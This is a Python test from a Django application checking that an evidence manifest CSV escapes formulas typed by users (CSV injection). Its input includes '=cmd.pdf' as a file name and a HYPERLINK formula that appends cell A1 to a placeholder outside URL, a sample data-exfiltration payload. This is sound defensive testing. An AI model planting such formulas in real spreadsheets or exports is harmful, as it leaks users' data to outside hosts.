"""What one person types must not run in another person's spreadsheet (CSV injection)."""

import csv
import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile

from assessments.evidence.services import evidence_upload
from reports.evidence_zip import write_evidence_zip
from tests.assessments.test_evidence_files import make_pdf

PDF = make_pdf()


def test_evidence_manifest_shows_formulas_typed_by_the_unit_as_text(
    assessment, personas, settings, tmp_path
):
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path)},
        },
    }
    evidence_upload(
        assessment=assessment,
        kind="piagam",
        by=personas["operator"],
        uploaded_file=SimpleUploadedFile("=cmd.pdf", PDF),
        description='=HYPERLINK("https://contoh.invalid/?"&A1,"Buka")',
    )
    out = io.BytesIO()
    write_evidence_zip(assessment=assessment, reader=None, out=out)
    manifest = zipfile.ZipFile(out).read("manifest.csv").decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(manifest)))
    assert row["nama_asli"] == "'=cmd.pdf"
    assert row["keterangan"].startswith("'=HYPERLINK(")
    assert row["ukuran"] == str(len(PDF))  # numbers stay numbers
